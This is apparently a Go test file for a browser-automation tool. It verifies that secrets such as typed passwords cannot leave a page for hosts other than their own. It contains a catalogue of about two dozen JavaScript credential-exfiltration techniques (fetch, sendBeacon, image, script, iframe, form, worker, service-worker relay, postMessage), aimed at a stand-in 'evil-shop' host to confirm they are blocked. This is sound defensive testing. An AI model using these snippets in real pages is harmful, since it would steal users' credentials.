package browser

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/go-rod/rod/lib/proto"

	"rote/browser/cdp"
	"rote/routine"
)

// secretWays are ways in which a page sends a secret S to a URL TO.
var secretWays = []struct{ name, script string }{
	{"fetch, body", `fetch(TO, {method: 'POST', mode: 'no-cors', body: S})`},
	{"fetch, query", `fetch(TO + '?q=' + encodeURIComponent(S), {mode: 'no-cors'})`},
	{"fetch, header", `fetch(TO, {headers: {'X-Key': encodeURIComponent(S)}})`},
	{"fetch, JSON", `fetch(TO, {method: 'POST', mode: 'no-cors', body: JSON.stringify({a: [S]})})`},
	{"fetch, base64", `fetch(TO, {method: 'POST', mode: 'no-cors', body: btoa('user:' + String.fromCharCode(...new TextEncoder().encode(S)))})`},
	{"fetch, bytes", `fetch(TO, {method: 'POST', mode: 'no-cors', body: new Blob([new TextEncoder().encode(S)])})`},
	{"fetch, form", `fetch(TO, {method: 'POST', mode: 'no-cors', body: new URLSearchParams({p: S})})`},
	{"fetch, form of parts", `(() => { const f = new FormData(); f.append('f', new Blob(['x'])); f.append('p', S);
		fetch(TO, {method: 'POST', mode: 'no-cors', body: f}) })()`},
	{"a redirect of its own host", `fetch('/r307?to=' + encodeURIComponent(TO), {method: 'POST', mode: 'no-cors', body: S})`},
	{"XMLHttpRequest", `(() => { const x = new XMLHttpRequest(); x.open('POST', TO); x.send(S) })()`},
	{"beacon", `navigator.sendBeacon(TO, S)`},
	{"keepalive", `fetch(TO, {method: 'POST', mode: 'no-cors', keepalive: true, body: S})`},
	{"image", `new Image().src = TO + '?' + encodeURIComponent(S)`},
	{"script", `(() => { const s = document.createElement('script'); s.src = TO + '?' + encodeURIComponent(S); document.head.append(s) })()`},
	{"style", `document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href="' + TO + '?' + encodeURIComponent(S) + '">')`},
	{"EventSource", `new EventSource(TO + '?' + encodeURIComponent(S))`},
	{"worker", `new Worker(URL.createObjectURL(new Blob([
		'fetch(' + JSON.stringify(TO) + ', {method: "POST", mode: "no-cors", body: ' + JSON.stringify(S) + '})'])))`},
	{"frame", `(() => { const f = document.createElement('iframe'); f.src = TO + '?' + encodeURIComponent(S); document.body.append(f) })()`},
	{"form into a frame", `(() => { document.body.insertAdjacentHTML('beforeend', '<iframe name=f></iframe><form target=f method=post><input name=p></form>');
		const f = document.forms[0]; f.action = TO; f.p.value = S; f.submit() })()`},
	{"a frame of another site", `frames[0].postMessage([TO, S], '*')`},
	{"popup", `open(TO + '?' + encodeURIComponent(S))`},
	{"service worker", `fetch('/pass?' + encodeURIComponent(TO), {method: 'POST', body: S})`},
	{"form of the page", `(() => { document.body.insertAdjacentHTML('beforeend', '<form id=last method=post><input name=p></form>');
		const f = document.forms.last; f.action = TO; f.p.value = S; f.submit() })()`},
	{"when the page is left", `(() => { onpagehide = () => navigator.sendBeacon(TO, S); location = '/next' })()`},
}

// leaksFrame is a frame of another site, which sends what it is given.
const leaksFrame = `<iframe src="http://frame.localhost:PORT/frame"></iframe>`

var leaksSite = map[string]any{
	"/": leaksFrame, "/served": servedPage, "/next": `next`, "/login": `<input id=p type=password>`,
	"/frame": `<script>onmessage = e => fetch(e.data[0], {method: 'POST', mode: 'no-cors', body: e.data[1]}); parent.postMessage('ready', '*')</script>`,
	"/worker.js": scriptFile(`oninstall = () => skipWaiting();
		onactivate = e => e.waitUntil(clients.claim());
		onfetch = e => {
			const u = new URL(e.request.url);
			if (u.pathname === '/pass') e.respondWith(e.request.text().then(t =>
				fetch(decodeURIComponent(u.search.slice(1)), {method: 'POST', mode: 'no-cors', body: t})));
		}`),
}

// From the moment when a secret is typed, no request of a page that has it leads to a host that
// is not the secret's. Before, and to its own host, each way is open.
func TestPagesSendTypedSecretsNowhereElse(t *testing.T) {
	t.Parallel()
	for _, kind := range kinds {
		t.Run(kind.name, func(t *testing.T) {
			b := kind.browser()
			for i, way := range secretWays {
				if sampled(b, i) {
					continue
				}
				t.Run(way.name, func(t *testing.T) {
					t.Parallel()
					sendInVain(t, b, way.name, way.script)
				})
			}
		})
	}
}

func sendInVain(t *testing.T, b *Browser, name, script string) {
	s := newSecretSite(t, leaksSite)
	a := &attempt{t: t, p: mustOpen(t, b), ctx: testContext(t)}
	throughWorker, page := name == "service worker", "http://SHOP/"
	if throughWorker {
		page += "served"
	}
	send := func(to string) {
		t.Helper()
		if _, err := a.p.Navigate(a.ctx, s.at(page)); err != nil {
			t.Fatal(err)
		}
		if throughWorker && !a.p.isWatched() {
			a.want(`LOG`, `"controlled;"`)
		}
		run := fmt.Sprintf(`(async () => { const TO = %q, S = %s; void (%s) })()`, s.at("http://"+to+".localhost:PORT/to"), routine.JSONText(theSecret), script)
		if _, err := cdp.Evaluate(a.ctx, a.p, proto.RuntimeEvaluate{Expression: run, AwaitPromise: true}); err != nil {
			t.Fatal(err)
		}
	}
	arrives := func(to string) {
		t.Helper()
		eventually(t, testTime/4, "the secret at "+to, func() bool { got, _ := s.taken(); return strings.Contains(got, to+".localhost") })
	}
	send("before")
	arrives("before")
	release := &routine.Release{Secret: "shop", Texts: []routine.Hidden{theSecret},
		Rules: &routine.SecretRules{Hosts: []string{"shop.localhost", "frame.localhost"}, Field: routine.FieldPassword}}
	if _, err := a.p.Navigate(a.ctx, s.at("http://SHOP/login")); err != nil {
		t.Fatal(err)
	}
	if _, err := a.p.Type(a.ctx, routine.Typing{Selector: "#p", Text: theSecret, Release: release}); err != nil {
		t.Fatal(err)
	}
	send("shop")
	arrives("shop")
	a.p.Denials()
	send("evil-shop")
	var denied []routine.Denial
	if !throughWorker { // it is bypassed: its own host gets the request
		eventually(t, testTime/4, "a refusal", func() bool {
			denied = append(denied, a.p.Denials()...)
			return strings.Contains(fmt.Sprint(denied), "evil-shop.localhost:"+s.port+"  secret_denied: the request has secret shop")
		})
	} else {
		eventually(t, testTime/4, "the request to its own host", func() bool { _, asked := s.taken(); return strings.Count(asked, "/pass") > 1 })
	}
	if got, asked := s.taken(); strings.Contains(got, "evil") {
		t.Errorf("the secret came to %s; asked were %s", got, asked)
	}
}

// A secret that confines the run closes what leads elsewhere, also connections that are open.
func TestSecretsConfineRuns(t *testing.T) {
	t.Parallel()
	for _, kind := range kinds {
		t.Run(kind.name, func(t *testing.T) {
			t.Parallel()
			if kind.name == "full" {
				onlyWhole(t)
			}
			s := newSecretSite(t, map[string]any{"/": "x"})
			p := mustOpen(t, kind.browser())
			ctx := testContext(t)
			if _, err := p.Navigate(ctx, s.at("http://SHOP/")); err != nil {
				t.Fatal(err)
			}
			get := func(host string) error {
				_, err := p.Fetch(ctx, routine.Fetch{URL: s.at("http://" + host + "/echo"), Method: http.MethodGet}, 0)
				return err
			}
			for _, host := range []string{"SHOP", "other.localhost:PORT"} {
				if err := get(host); err != nil {
					t.Fatal(err)
				}
			}
			release := &routine.Release{Secret: "shop", Texts: []routine.Hidden{theSecret},
				Rules: &routine.SecretRules{Hosts: []string{s.at("http://SHOP")}, Confine: true, Requests: true}}
			if err := p.watchSecret(ctx, release); err != nil {
				t.Fatal(err)
			}
			if err := get("SHOP"); err != nil {
				t.Error(err)
			}
			wantCode(t, get("other.localhost:PORT"), routine.CodeEgressDenied, "outside the hosts of secret shop, to which the run is confined")
			wantCode(t, get("OTHER"), routine.CodeEgressDenied, "confined")
			if _, asked := s.taken(); strings.Count(asked, "other") != 1 {
				t.Errorf("asked were %s", asked)
			}
		})
	}
}
